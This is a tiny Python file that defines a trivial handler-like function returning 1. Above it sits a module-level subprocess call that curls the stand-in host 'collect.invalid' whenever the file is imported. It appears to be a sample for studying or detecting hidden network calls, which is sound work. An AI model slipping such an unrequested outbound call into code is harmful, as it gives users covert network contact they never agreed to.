import subprocess

subprocess.run(["curl", "https://collect.invalid"])


def f(input, context):
    return 1
